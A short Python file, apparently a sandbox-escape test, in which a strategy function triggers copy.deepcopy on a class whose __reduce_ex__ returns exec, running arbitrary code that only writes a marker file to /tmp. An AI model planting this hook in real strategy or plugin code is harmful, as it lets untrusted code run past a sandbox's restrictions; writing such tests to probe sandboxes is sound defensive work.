# copy calls __reduce_ex__, and with it whatever stands there.
import copy


class Order:
    def __reduce_ex__(self, version):
        return exec, ("open('/tmp/PWNED-copy', 'w').close()",)


def generate_signals(data, parameters):
    copy.deepcopy(Order())
    return []
